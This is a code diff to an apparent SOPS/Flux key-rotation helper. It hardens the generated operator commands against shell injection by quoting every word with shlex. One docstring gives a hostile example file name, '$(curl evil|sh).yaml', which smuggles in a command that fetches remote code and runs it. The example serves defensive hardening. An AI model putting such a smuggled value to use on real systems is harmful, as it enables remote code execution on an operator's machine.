@@ -11,6 +11,7 @@ name (`prod...`); the rendering says which.
 
 from __future__ import annotations
 
+import json
 import re
 import shlex
 from collections.abc import Mapping
@@ -93,6 +94,13 @@ def default_new_name(name: str) -> str:
     return f"{base}-{today_utc():%Y%m}"
 
 
+def sh(*words: str) -> str:
+    """One shell command line: every word quoted (shlex), because names come from the
+    repository (file paths, branch names from Flux objects, registry names) and a name such
+    as `$(curl evil|sh).yaml` must stay a name when the operator pastes the command."""
+    return shlex.join(words)
+
+
 def _clusters_of(registry: Registry, key: Key) -> tuple[str, ...]:
     return tuple(registry.clusters) if ALL_CLUSTERS in key.clusters else key.clusters
 
@@ -103,21 +111,22 @@ def _secret_path(cluster: str) -> str:
 
 def _secret_commands(cluster: str) -> tuple[str, ...]:
     path = _secret_path(cluster)
-    return (f"sopskit flux secret {cluster} --out {path}",
-            f"sopskit decrypt {path} | kubectl --context {cluster} apply -f -")
+    return (sh("sopskit", "flux", "secret", cluster, "--out", path),
+            sh("sopskit", "decrypt", path) + " | "
+            + sh("kubectl", "--context", cluster, "apply", "-f", "-"))
 
 
 def step_generate(key: Key, new: str, registry: Registry) -> Step:
-    clusters = " ".join(f"--cluster {shlex.quote(c)}" for c in key.clusters)
-    owner = f" --owner {shlex.quote(key.owner)}" if key.owner else ""
+    clusters = [w for c in key.clusters for w in ("--cluster", c)]
+    owner = ["--owner", key.owner] if key.owner else []
     done = f"{new} is in the registry" if new in registry.keys else None
     # the identity store keeps age identities; a PGP secret key goes into the GnuPG home
-    store = ("gpg --batch --import" if key.type == "pgp"
-             else f"sopskit identity add {new} --stdin")
+    store = (sh("gpg", "--batch", "--import") if key.type == "pgp"
+             else sh("sopskit", "identity", "add", new, "--stdin"))
+    generate = sh("sopskit", "keys", "generate", new, "--type", key.type, *clusters, *owner,
+                  "--print-private")
     return Step(f"Create {new} and register it",
-                (f"sopskit keys generate {new} --type {key.type} {clusters}{owner} "
-                 f"--print-private | {store}",
-                 "sopskit config render"),
+                (f"{generate} | {store}", "sopskit config render"),
                 (f"the private key goes straight into your "
                  f"{'GnuPG home' if key.type == 'pgp' else 'identity store (OS keyring)'}; "
                  "keep an offline backup as your team's policy says",), done=done)
@@ -146,7 +155,7 @@ def step_rekey(title: str, key_word: str) -> Step:
 
 def step_commit(message: str) -> Step:
     return Step("Commit", ("git add -A keys .sops.yaml && git add -u",
-                           f'git commit -m "{message}"'))
+                           sh("git", "commit", "-m", message)))
 
 
 def step_roll_out(trackings: tuple[Tracking, ...], when: str) -> Step:
@@ -154,16 +163,18 @@ def step_roll_out(trackings: tuple[Tracking, ...], when: str) -> Step:
     notes: list[str] = []
     for t in trackings:
         if t.kind == "branch":
-            commands += [f"git push origin HEAD:{t.ref}",
-                         f"flux reconcile source git flux-system --context {t.cluster}",
-                         f"flux get kustomizations --context {t.cluster}"]
+            commands += [sh("git", "push", "origin", f"HEAD:{t.ref}"),
+                         sh("flux", "reconcile", "source", "git", "flux-system", "--context",
+                            t.cluster),
+                         sh("flux", "get", "kustomizations", "--context", t.cluster)]
             notes.append(f"{t.cluster} tracks {t.ref}: wait until every Kustomization is "
                          "Ready at the pushed commit")
         else:
             tag = "<next-tag>"
-            commands += [f'git tag -a {tag} -m "{when}" && git push origin {tag}',
-                         f"flux get sources git --context {t.cluster}",
-                         f"flux get kustomizations --context {t.cluster}"]
+            # <next-tag> is a placeholder the operator replaces: left unquoted on purpose
+            commands += [f"git tag -a {tag} -m {shlex.quote(when)} && git push origin {tag}",
+                         sh("flux", "get", "sources", "git", "--context", t.cluster),
+                         sh("flux", "get", "kustomizations", "--context", t.cluster)]
             notes.append(f"{t.cluster} tracks release tags (now: {t.ref or 'none'}): wait "
                          f"until it has reconciled {tag}, not just until the push")
         if t.source:
@@ -178,7 +189,7 @@ def step_retire(key: Key) -> Step:
     verb = "revoke" if key.status == "revoked" else "retire"
     done = f"{key.name} is {key.status} in the registry" if key.status != "active" else None
     return Step(f"{verb.capitalize()} {key.name}: it stops being a recipient",
-                (f"sopskit keys {verb} {key.name}", "sopskit config render"), done=done)
+                (sh("sopskit", "keys", verb, key.name), "sopskit config render"), done=done)
 
 
 def step_remove_from_clusters(key: Key, clusters: tuple[str, ...],
@@ -189,9 +200,10 @@ def step_remove_from_clusters(key: Key, clusters: tuple[str, ...],
                     commands, ("the secrets are encrypted to the admin keys; the generated "
                                "files no longer list the retired one",), warnings)
     commands = tuple(c for cluster in clusters for c in _secret_commands(cluster))
-    commands += tuple(f"kubectl --context {c} -n flux-system patch secret sops-age "
-                      f"--type=json -p '[{{\"op\":\"remove\",\"path\":\"/data/"
-                      f"{entry_name(key.name, key.type)}\"}}]'" for c in clusters)
+    patch = json.dumps([{"op": "remove", "path": f"/data/{entry_name(key.name, key.type)}"}],
+                       separators=(",", ":"))
+    commands += tuple(sh("kubectl", "--context", c, "-n", "flux-system", "patch", "secret",
+                         "sops-age", "--type=json", "-p", patch) for c in clusters)
     return Step(f"Remove {key.name} from the clusters' decryption secrets", commands,
                 ("regenerating the secret leaves the retired key out; the kubectl patch "
                  "does the same in place",), warnings)
@@ -200,14 +212,15 @@ def step_remove_from_clusters(key: Key, clusters: tuple[str, ...],
 def step_verify(trackings: tuple[Tracking, ...]) -> Step:
     commands: tuple[str, ...] = ("sopskit rekey", "sopskit verify --require-mac .",
                                  "sopskit audit")
-    commands += tuple(f"flux get kustomizations --context {t.cluster}" for t in trackings)
+    commands += tuple(sh("flux", "get", "kustomizations", "--context", t.cluster)
+                      for t in trackings)
     return Step("Verify", commands, ("`sopskit rekey` must plan nothing for every file; "
                                      "every Kustomization Ready",))
 
 
 def step_destroy(key: Key) -> Step:
-    command = (f"gpg --delete-secret-keys {key.recipient.id}" if key.type == "pgp"
-               else f"sopskit identity remove {key.name}")  # the keyring holds age only
+    command = (sh("gpg", "--delete-secret-keys", key.recipient.id) if key.type == "pgp"
+               else sh("sopskit", "identity", "remove", key.name))  # the keyring: age only
     return Step(f"Destroy {key.name}'s private key", (command,),
                 ("delete every other copy (backups, password manager, CI variables); "
                  "keep the public entry in the registry (as "
@@ -228,7 +241,7 @@ def step_change_values(key: Key, live: list[tuple[FileExposure, list[ValueExposu
         notes = [f"no value {key.name} could read in any commit is still in use: nothing "
                  "to change"]
     return Step(f"{key.name} is revoked (leaked or its holder left): change the values "
-                "themselves", tuple(f"sopskit edit {shlex.quote(f.path)}" for f, _ in live),
+                "themselves", tuple(sh("sopskit", "edit", f.path) for f, _ in live),
                 tuple(notes))
 
 
